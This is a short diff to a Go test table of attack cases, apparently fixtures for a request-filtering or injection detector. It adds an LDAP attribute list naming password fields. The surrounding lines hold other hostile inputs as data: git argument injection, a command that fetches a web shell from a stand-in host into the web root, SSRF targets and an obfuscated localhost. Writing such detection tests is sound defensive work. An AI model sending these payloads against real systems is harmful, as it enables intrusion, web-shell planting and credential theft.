@@ -222,6 +222,7 @@ var attackCases = []attackCase{
 	{KindQueryValue, "branch", "--upload-pack=touch /tmp/pwned", "rce-argument-injection"},
 	{KindBodyValue, "_method", "__construct", "php-probe"},
 	{KindBodyValue, "password", "*", "ldap-filter-injection"},
+	{KindQueryValue, "attrs", "userPassword,unicodePwd,sAMAccountName", "ldap-filter-injection"},
 	{KindBodyValue, "url", "-o /var/www/html/s.php http://203.0.113.50/shell.txt", "rce-argument-injection"},
 	{KindHeaderValue, "X-Webhook-Url", "http://127.0.0.1:8080/admin", "ssrf-internal-target"},
 	{KindBodyValue, "term", "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/admin", "ssrf-obfuscated-ip"},
